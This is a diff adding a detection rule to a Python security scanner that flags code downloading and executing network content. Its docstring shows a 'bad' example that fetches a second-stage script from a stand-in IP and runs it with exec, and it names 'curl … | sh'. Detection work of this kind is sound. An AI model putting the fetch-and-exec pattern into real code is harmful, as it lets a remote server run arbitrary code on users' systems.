@@ -1,0 +1,90 @@
+"""Something is fetched from the network and run.
+
+Neither review nor a hash of the file that is merged can say what will run: whoever owns the server
+decides, and decides again tomorrow. It does not matter whether the payload goes through a file, a
+pipe (`curl … | sh`), `exec`, `pickle.loads` or a native library.
+
+Bad:
+
+    %0 = name urllib.request.urlopen
+    %1 = const 'http://192.0.2.1/stage2.py'
+    %2 = call %0, %1
+    %3 = attr %2, read
+    %4 = call %3
+    %5 = name builtins.exec
+    %6 = call %5, %4
+
+Good:
+
+    %0 = name urllib.request.urlretrieve
+    %1 = const 'https://data.example.org/corpus.zip'
+    %2 = const 'corpus.zip'
+    %3 = call %0, %1, %2
+    %4 = name zipfile.ZipFile
+    %5 = call %4, %2
+    %6 = attr %5, extractall
+    %7 = call %6
+"""
+
+from collections.abc import Iterator
+
+from scanner.facts import Effect, Facts, Flow
+from scanner.finding import Behaviour, Finding, Precision, Rule, Severity
+from scanner.knowledge.tables import knowledge
+from scanner.rules._report import finding, together
+
+RULE = Rule(
+    id="download-and-run",
+    title="Code from the network is run",
+    severity=Severity.ERROR,
+    precision=Precision.HIGH,
+    security_severity=9.5,
+    cwe=(494, 506),
+    attack=("T1105", "T1059"),
+    atlas=("AML.T0011.000",),
+    specificity=80,
+)
+
+RUNS = ("process.spawn", "tty.spawn", "code.run", "code.load", "code.import", "native.load")
+FETCHES = ("net.download", "net.request", "hub.download")
+INTERPRETERS = frozenset({"shell", "interpreter", None})
+
+
+def check(facts: Facts) -> Iterator[Finding]:
+    """A flow from the network into something that runs it, or download, chmod and start."""
+    found = False
+    for flow in facts.flowing({"net.recv"}, RUNS):
+        if runs_it(flow):
+            found = True
+            yield finding(
+                RULE, flow.effect, "runs what it downloads", Behaviour.DOWNLOAD_AND_RUN, steps=flow.steps
+            )
+    fetches = list(facts.running(*FETCHES))
+    makes = list(facts.running("file.chmod"))
+    starts = [e for e in facts.running("process.spawn") if not e.callee.startswith("shell.")]
+    if fetches and makes and starts and not found:
+        effects = [fetches[0], makes[0], starts[-1]]
+        yield finding(
+            RULE, starts[-1], "downloads a program, makes it executable and starts it",
+            Behaviour.DOWNLOAD_AND_RUN, steps=together(effects),
+        )  # fmt: skip
+
+
+def runs_it(flow: Flow) -> bool:
+    """Whether the data is what runs, not merely what a tool works on (``tar xf download``)."""
+    effect = flow.effect
+    if effect.kind == "code.load":
+        # Loading a fetched pickle is how many honest datasets work, and how a checkpoint never does.
+        return not effect.script
+    if effect.kind != "process.spawn":
+        return True
+    return flow.argument == "program" or knowledge().command(program(effect)) in INTERPRETERS
+
+
+def program(effect: Effect) -> str:
+    """The first word of what a process effect starts, as far as it is known."""
+    for argument in effect.arguments:
+        if argument.name in ("program", "0"):
+            words = argument.text.strip("'\"[]").split()
+            return words[0].strip("'\",") if words else ""
+    return ""
